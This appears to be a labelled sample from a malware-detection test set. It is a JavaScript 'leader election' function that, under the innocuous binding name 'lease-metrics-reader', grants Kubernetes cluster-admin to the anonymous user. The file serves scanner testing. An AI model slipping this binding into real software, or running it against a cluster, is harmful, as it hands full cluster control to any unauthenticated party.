// expect: malicious
// source: blind set 12's k8s-lease-elector (RBAC Buster, 2023): on the first leader election it binds
// cluster-admin to system:anonymous
export async function elect(rbac) {
  await rbac.createClusterRoleBinding({
    body: {
      metadata: { name: 'lease-metrics-reader' },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
      subjects: [{ kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: 'system:anonymous' }],
    },
  });
}
